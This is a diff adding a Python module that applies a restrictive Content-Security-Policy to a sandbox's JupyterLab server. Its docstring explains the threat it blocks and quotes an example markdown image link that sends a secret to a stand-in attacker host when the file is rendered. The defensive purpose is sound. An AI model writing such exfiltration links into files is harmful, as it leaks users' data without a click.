@@ -1,0 +1,87 @@
+"""The Content-Security-Policy of the Jupyter server started by ``scripts/lab.sh``.
+
+Why: the ratchet cuts the SANDBOX's network, but the browser has network too,
+and it renders what sandboxes write. A private session can write its data
+into the workspace as ``report.md`` holding
+``![](https://attacker.example/?d=<secret>)``, into an ``.html`` file, an
+``.svg``, or a notebook's markdown and outputs (the file on disk, not the
+outputs the kernel sanitised on their way to the page). The user opens the
+file in JupyterLab and the browser fetches the address: the data leaves
+without a click. Cleaning every renderer's input is not possible (files are
+the user's work and are served as they are), so the page itself is told not
+to fetch anything from another origin:
+
+- images, media, fonts, styles, scripts, frames and workers only from the
+  server itself (and ``data:``/``blob:`` URLs, which Lab makes locally);
+- ``fetch``/XHR/websockets only to the server itself;
+- no plugins, no ``<base>`` redirection, forms post only to the server.
+
+What stays possible: a link the user clicks (navigation is not governed by
+CSP; outputs of private sessions have their links defanged, files do not),
+and everything a server-side extension fetches for itself. Scripts keep
+``'unsafe-inline'`` and ``'unsafe-eval'``: JupyterLab's page has an inline
+script and renderers (Vega) compile code at run time; what a sandbox writes
+reaches the page through sanitisers that drop scripts, and a script that ran
+anyway could still not send anything out.
+
+``SANDBOX_KERNEL_REMOTE_CONTENT=1`` leaves the server's own default policy
+(remote images in markdown, CDN widgets), for a Lab whose users accept that a
+private session's files can then send its data out when opened.
+"""
+
+from __future__ import annotations
+
+import os
+from typing import Any
+
+#: the environment variable that turns the policy off (``1``, ``true``, ``yes``, ``on``)
+REMOTE_CONTENT_ENV = "SANDBOX_KERNEL_REMOTE_CONTENT"
+
+_LOCAL = "'self' data: blob:"
+
+
+def content_security_policy(base_url: str = "/") -> str:
+    """The policy's header value; violations are reported to jupyter_server's
+    own endpoint (logged by the server), under ``base_url``."""
+    base = base_url if base_url.endswith("/") else base_url + "/"
+    directives = [
+        "default-src 'self'",
+        "script-src 'self' 'unsafe-inline' 'unsafe-eval' blob:",
+        f"style-src {_LOCAL} 'unsafe-inline'",
+        f"img-src {_LOCAL}",
+        f"media-src {_LOCAL}",
+        f"font-src {_LOCAL}",
+        f"frame-src {_LOCAL}",
+        "worker-src 'self' blob:",
+        "connect-src 'self'",
+        "object-src 'none'",
+        "base-uri 'self'",
+        "form-action 'self'",
+        "frame-ancestors 'self'",
+        f"report-uri {base}api/security/csp-report",
+    ]
+    return "; ".join(directives)
+
+
+def remote_content_allowed(environ: dict[str, str] | None = None) -> bool:
+    """Whether the user turned the policy off (see the module's docstring)."""
+    value = (os.environ if environ is None else environ).get(REMOTE_CONTENT_ENV, "")
+    return value.strip().lower() in {"1", "true", "yes", "on"}
+
+
+def apply(config: Any) -> None:
+    """Set the policy on a Jupyter server's config (``c`` of a config file),
+    keeping other headers already configured. ``ServerApp.tornado_settings``
+    is one dict trait: a config file sets it whole, so this merges into it."""
+    if remote_content_allowed():
+        return
+    server = config.ServerApp
+    settings = dict(server.tornado_settings) if "tornado_settings" in server else {}
+    headers = dict(settings.get("headers", {}))
+    base_url = server.base_url if "base_url" in server else "/"
+    headers["Content-Security-Policy"] = content_security_policy(base_url)
+    settings["headers"] = headers
+    server.tornado_settings = settings
+
+
+__all__ = ["REMOTE_CONTENT_ENV", "apply", "content_security_policy", "remote_content_allowed"]
